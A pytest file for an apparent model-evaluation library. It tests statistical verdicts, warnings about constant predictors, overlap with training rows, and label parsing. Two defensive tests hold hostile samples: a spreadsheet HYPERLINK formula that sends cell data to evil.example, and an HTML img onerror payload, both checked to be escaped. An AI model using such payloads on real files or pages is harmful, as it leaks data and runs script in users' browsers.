"""Verdicts that cannot flatter: macro-F1 headline, one-class predictors, CI and p-value of the same metric,
evaluation on training rows, and the labels a user's file may use. Run: pytest tests/test_verdicts.py
"""

import json
import math

import numpy as np
import pytest
from scipy import stats as sps
from sklearn.metrics import f1_score

from llmft import LlmftError, get_task
from llmft.config import EvalConfig
from llmft.context import Context
from llmft.data import Example, guess_columns, guess_label_map, load_examples, normalize_label
from llmft.pipeline import evaluate
from llmft.results import EvalResult
from llmft.stats import paired_comparison
from llmft.training import TrainConfig, train

SENTIMENT = get_task("sentiment")


def scored(labels, base_pred, tuned_pred, seed=0) -> EvalResult:
    """An EvalResult of the sentiment kind from given predictions (probabilities one-hot)."""
    examples = [Example(str(i), f"text {i}", label=y) for i, y in enumerate(labels)]
    onehot = [[1.0 - p, float(p)] for p in base_pred], [[1.0 - p, float(p)] for p in tuned_pred]
    s = SENTIMENT.kind.score(SENTIMENT, examples, *onehot, None, seed)
    result = EvalResult(
        "sentiment", "classification", len(labels), "macro_f1", s.metrics, s.per_example, "p_true_label", s.rows
    )
    result.data, result.split, result.warnings = "sample", "test", s.warnings
    result.judge(s.not_better)
    return result


def generated(base, tuned) -> EvalResult:
    """An EvalResult of a generation kind whose headline (`overall`) is scored per example."""
    rows = [{"id": i, "base_overall": b, "tuned_overall": t} for i, (b, t) in enumerate(zip(base, tuned))]
    metrics = {"overall": paired_comparison(base, tuned)}
    result = EvalResult("summarize", "seq2seq", len(base), "overall", metrics, ["overall"], "overall", rows)
    result.data, result.split = "sample", "test"
    result.judge()
    return result


def test_every_verdict_says_the_smallest_difference_its_n_could_detect():
    rng = np.random.default_rng(4)
    base = rng.uniform(0.2, 0.6, 30)
    tuned = np.clip(base + rng.normal(0.15, 0.1, 30), 0, 1)
    result = generated(base.tolist(), tuned.tolist())
    deltas = tuned - base
    # Two-sided paired t approximation at 80% power: (t_0.975 + t_0.8, 29 df) * sd / sqrt(n).
    mdd = (sps.t.ppf(0.975, 29) + sps.t.ppf(0.8, 29)) * deltas.std(ddof=1) / np.sqrt(30)
    assert result.verdict == "better" and result.power.min_detectable_delta == pytest.approx(mdd)
    line = f"smallest difference n=30 could detect at 80% power: ±{mdd:.3f} (observed Δ {deltas.mean():+.3f})"
    assert line in result.verdict_text() and "too small" not in result.verdict_text()
    assert result.to_json()["power"] == {
        "min_detectable_delta": pytest.approx(mdd),
        "n": 30,
        "observed_delta": pytest.approx(deltas.mean()),
        "spread": "per-example deltas",
        "alpha": 0.05,
        "power": 0.8,
        "n_needed": None,
    }
    # A corpus headline (macro-F1) has no per-example deltas: its bootstrap CI gives the standard error.
    labels = [0, 1] * 20
    clear = scored(labels, [1 - y for y in labels[:20]] + labels[20:], labels)
    lo, hi = clear.metrics["macro_f1"]["ci95"]
    se = (hi - lo) / 2 / sps.norm.ppf(0.975)
    assert clear.power.spread == "bootstrap CI"
    assert clear.power.min_detectable_delta == pytest.approx((sps.norm.ppf(0.975) + sps.norm.ppf(0.8)) * se)
    assert clear.verdict == "better" and "too small" not in clear.verdict_text()
    # No spread at all (tuned equals base everywhere): nothing is too small to see.
    same = generated([0.3, 0.5, 0.4], [0.3, 0.5, 0.4])
    assert same.power.min_detectable_delta == 0.0 and "every example's difference is the same" in same.verdict_text()
    assert "too small" not in same.verdict_text()


def test_no_clear_difference_on_a_small_test_set_says_it_was_too_small_to_see_the_delta():
    base = np.linspace(0.3, 0.5, 20)
    tuned = base + 0.02 + 0.2 * np.array([1, -1] * 10)  # mean delta +0.02, sd 0.2: far below what n=20 can see
    result = generated(base.tolist(), tuned.tolist())
    power, delta = result.power, float(np.mean(tuned - base))
    assert result.verdict == "no clear difference" and 0 < abs(delta) < power.min_detectable_delta
    assert power.n_needed == math.ceil(20 * (power.min_detectable_delta / abs(delta)) ** 2) > 20
    assert (
        f"the test set is too small to see a difference of the observed size (about {power.n_needed} examples "
        "would be needed)" in result.verdict_text()
    )
    assert "too small" in result.text_report()


def test_a_summary_without_power_still_loads_and_gets_its_power_line(tmp_path):
    result = generated([0.2, 0.4, 0.3, 0.5, 0.1], [0.3, 0.45, 0.2, 0.6, 0.3])
    result.write(tmp_path / "new")
    again = EvalResult.load(tmp_path / "new")
    assert again.power == result.power and again.verdict_text() == result.verdict_text()
    old = tmp_path / "old"
    old.mkdir()
    summary = {k: v for k, v in result.to_json().items() if k != "power"}
    (old / "summary.json").write_text(json.dumps(summary))
    loaded = EvalResult.load(old)  # no examples.csv: the power comes from the headline's CI
    assert loaded.format_version == 2 and loaded.power.spread == "bootstrap CI"
    assert "smallest difference n=5 could detect at 80% power" in loaded.verdict_text()
    (old / "examples.csv").write_text((tmp_path / "new" / "examples.csv").read_text())
    assert EvalResult.load(old).power.min_detectable_delta == pytest.approx(result.power.min_detectable_delta)


def test_a_constant_predictor_is_never_called_better_and_is_warned_about():
    rng = np.random.default_rng(0)
    labels = [1] * 80 + [0] * 20  # unbalanced: "always Positive" gets accuracy 0.8 and positive-class F1 0.89
    always_wrong = [1 - y for y in labels]
    constant = [1] * 100
    result = scored(labels, always_wrong, constant)
    # Every interval says tuned improved: positive-class F1, accuracy and macro-F1 all went up...
    for name in ("positive_f1", "accuracy", "macro_f1"):
        assert result.metrics[name]["ci95"][0] > 0, name
    # ...but a model that predicts one class has learned nothing about telling them apart.
    assert result.verdict == "no clear difference" and "not called better" in result.verdict_text()
    assert any("the tuned model predicts one class only (Positive) for all 100 examples" in w for w in result.warnings)
    # Against a base that guesses at random, the headline (macro-F1) does not flatter it either.
    guessing = rng.integers(0, 2, 100).tolist()
    result = scored(labels, guessing, constant)
    assert result.verdict != "better" and result.warnings


def test_a_skewed_predictor_is_warned_about_and_a_worse_model_is_called_worse():
    labels = [0, 1] * 50
    skewed = [1] * 90 + [0] * 10
    result = scored(labels, labels, skewed)
    assert any(
        "predicts Positive for 90% of examples, but 50% of the labels are Positive" in w for w in result.warnings
    )
    assert result.verdict == "worse" and result.verdict_text().startswith("tuned is worse than base on macro_f1")


def test_ci_and_p_value_of_a_row_come_from_the_same_metric():
    rng = np.random.default_rng(3)
    labels = rng.integers(0, 2, 12)
    base = np.where(rng.random(12) < 0.5, labels, 1 - labels)
    tuned = np.where(rng.random(12) < 0.9, labels, 1 - labels)
    row = scored(labels.tolist(), base.tolist(), tuned.tolist(), seed=7).metrics["macro_f1"]

    def macro(refs, pred):
        return f1_score(refs, pred, average="macro", zero_division=0)

    # The p-value: a paired permutation test of the macro-F1 delta itself (exact: 2**12 sign patterns).
    p = sps.permutation_test(
        (base, tuned), lambda b, t: macro(labels, t) - macro(labels, b), permutation_type="samples", vectorized=False
    ).pvalue
    assert row["test"] == "permutation" and row["p_value"] == pytest.approx(p)
    # The CI: a paired bootstrap of the same delta, as scikit-learn computes macro-F1.
    ci = sps.bootstrap(
        (labels, base, tuned),
        lambda r, b, t: macro(r, t) - macro(r, b),
        paired=True,
        vectorized=False,
        n_resamples=1000,
        method="percentile",
        random_state=np.random.default_rng(7),
    ).confidence_interval
    assert row["ci95"] == pytest.approx([ci.low, ci.high])
    assert row["delta_mean"] == pytest.approx(macro(labels, tuned) - macro(labels, base))


def test_evaluating_on_the_runs_training_rows_is_refused_and_partial_overlap_is_flagged(tiny_distilbert, tmp_path):
    rows = [{"text": f"review number {i} {'great' if i % 2 else 'awful'}", "label": i % 2} for i in range(40)]
    train_file, mixed_file = tmp_path / "train.jsonl", tmp_path / "mixed.jsonl"
    train_file.write_text("".join(json.dumps(r) + "\n" for r in rows))
    held_out = [{"text": f"another text {i} {'great' if i % 2 else 'awful'}", "label": i % 2} for i in range(30)]
    mixed_file.write_text("".join(json.dumps(r) + "\n" for r in rows[:5] + held_out))
    runs = tmp_path / "runs"
    train(
        TrainConfig(
            task="sentiment",
            model=tiny_distilbert,
            data=str(train_file),
            runs_dir=str(runs),
            run_name="r",
            max_steps=2,
        ),
        show_progress=False,
    )
    ctx = Context.create(runs)
    with pytest.raises(LlmftError, match="20 of 20 evaluation examples are training examples of run r"):
        evaluate(ctx, EvalConfig(task="sentiment", run="r", data=str(train_file), n=20), progress=False)
    result, _ = evaluate(ctx, EvalConfig(task="sentiment", run="r", data=str(mixed_file), n=35), progress=False)
    assert any(w.startswith("5 of 35 evaluation examples were training examples") for w in result.warnings)
    assert result.verdict != "better" and result.data == str(mixed_file) and result.data_name() == "mixed.jsonl"


@pytest.mark.parametrize(
    "value,label", [("pos", 1), ("NEG", 0), ("Positive", 1), ("1", 1), ("negat", 0), ("po", None), ("meh", None)]
)
def test_label_names_ids_and_unique_prefixes_normalise(value, label):
    if label is None:
        with pytest.raises(LlmftError, match="unknown label"):
            normalize_label(value, SENTIMENT.labels)
    else:
        assert normalize_label(value, SENTIMENT.labels) == label


def test_label_mappings_are_guessed_and_applied(tmp_path):
    path = tmp_path / "reviews.csv"
    path.write_text("id,review,liked\n1,Great fun from start to end,yes\n2,Dull and far too long,no\n3,Loved it,yes\n")
    rows = [(i, r) for i, r in enumerate([{"id": "1", "review": "Great fun", "liked": "yes"}], 2)]
    assert guess_columns(SENTIMENT, rows)["text_column"] == "review"
    assert guess_label_map(["yes", "no", "pos", "Negative"], SENTIMENT.labels) == ["yes=Positive", "no=Negative"]
    with pytest.raises(LlmftError, match="reviews.csv line 2: unknown label 'yes'"):
        load_examples(SENTIMENT, str(path), text_column="review", label_column="liked", name="reviews.csv")
    examples = load_examples(
        SENTIMENT, str(path), text_column="review", label_column="liked", label_map=["yes=Positive", "no=Negative"]
    )
    assert [ex.label for ex in examples] == [1, 0, 1]
    with pytest.raises(LlmftError, match="must look like value=Label"):
        load_examples(SENTIMENT, str(path), text_column="review", label_column="liked", label_map=["yes"])


def test_a_binary_file_is_called_a_binary_file_and_named_as_uploaded(tmp_path):
    path = tmp_path / "a1b2c3-upload.csv"
    path.write_bytes(b"PK\x03\x04\x00\x00binary zip bytes")
    with pytest.raises(LlmftError, match=r"^my data.csv is a binary file, not CSV text$"):
        load_examples(SENTIMENT, str(path), name="my data.csv")


def test_examples_csv_keeps_a_strangers_formula_as_text_and_reads_it_back_unchanged(tmp_path):
    """A text that starts like a spreadsheet formula (`=HYPERLINK(...)`, `+`, `-`, `@`) is written to examples.csv
    with a leading quote, so a spreadsheet shows it rather than runs it; scores, negative ones too, stay numbers;
    loading the folder gives the texts back as they were typed."""
    result = generated([0.5, 0.2], [0.25, 0.4])
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    result.rows[0].update(input=attack, tuned_output="@SUM(1+1)", base_output="- a dash")
    result.rows[1].update(input="plain text", tuned_output="'=kept as typed", base_output="ok")
    result.write(tmp_path)
    raw = (tmp_path / "examples.csv").read_text()
    assert "'=HYPERLINK(" in raw and "'@SUM" in raw and "'- a dash" in raw
    assert "\n=" not in raw and ",=" not in raw and ",@" not in raw
    loaded = EvalResult.load(tmp_path)
    assert loaded.rows[0]["input"] == attack and loaded.rows[0]["tuned_output"] == "@SUM(1+1)"
    assert loaded.rows[0]["base_output"] == "- a dash" and loaded.rows[1]["input"] == "plain text"
    assert loaded.rows[1]["tuned_output"] == "'=kept as typed"
    assert [r["base_overall"] for r in loaded.rows] == [0.5, 0.2]


def test_markdown_in_a_strangers_labels_stays_text_in_verdicts_and_model_card_tables():
    """A label is whatever a visitor's data or task file says: `![x](https://...)` or an HTML tag in one must not
    become an image, a link or a tag in another visitor's verdict or in a model card."""
    import dataclasses

    from markdown_it import MarkdownIt

    from llmft.ui.evaluate import verdict_markdown

    hostile = ("![x](https://evil.example/p.png)", "<img src=x onerror=alert(1)>")
    task = dataclasses.replace(SENTIMENT, labels=hostile)
    labels = [1] * 30 + [0] * 10
    examples = [Example(str(i), f"text {i}", label=y) for i, y in enumerate(labels)]
    onehot = [[1.0 - p, float(p)] for p in [1 - y for y in labels]], [[0.0, 1.0]] * len(labels)
    s = task.kind.score(task, examples, *onehot, None, 0)
    result = EvalResult(
        "sentiment", "classification", 40, "macro_f1", s.metrics, s.per_example, "p_true_label", s.rows, **s.extra
    )  # as evaluation.evaluate_pair builds it: the labels and per-class figures too
    result.data, result.split, result.warnings, result.run = "sample", "test", s.warnings, "r"
    result.judge(s.not_better)
    assert any("<img src=x" in w for w in result.warnings)  # the label is named in a warning...
    render = MarkdownIt("commonmark").enable("table").render
    verdict, table = render(verdict_markdown(result)), render(result.markdown_table())
    assert "&lt;img src=x" in verdict and "<img" not in verdict  # ... as text
    assert "evil.example" in table and "<img" not in table and "<a " not in table


def test_a_classification_drill_down_says_right_or_wrong_and_names_metrics_in_words():
    """A label is one word: the drill-down says which side got it right instead of a word diff of two labels, and
    metrics are named in words beside the names the files use."""
    from llmft.ui.evaluate import example_detail, examples_table

    labels = [1, 0, 1, 0]
    examples = [Example(str(i), f"text {i}", label=y) for i, y in enumerate(labels)]
    onehot = [[1.0, 0.0]] * 4, [[1.0 - y, float(y)] for y in labels]
    s = SENTIMENT.kind.score(SENTIMENT, examples, *onehot, None, 0)
    result = EvalResult(
        "sentiment", "classification", 4, "macro_f1", s.metrics, s.per_example, "p_true_label", s.rows, **s.extra
    )
    shown = example_detail(result, "0")  # truth Positive: base said Negative, tuned Positive
    assert "<b>Base</b> wrong, <b>tuned</b> right." in shown and "Word diff" not in shown
    assert "probability of the true label (p_true_label)" in shown
    assert "base probability of the true label (p_true_label)" in examples_table(result).columns
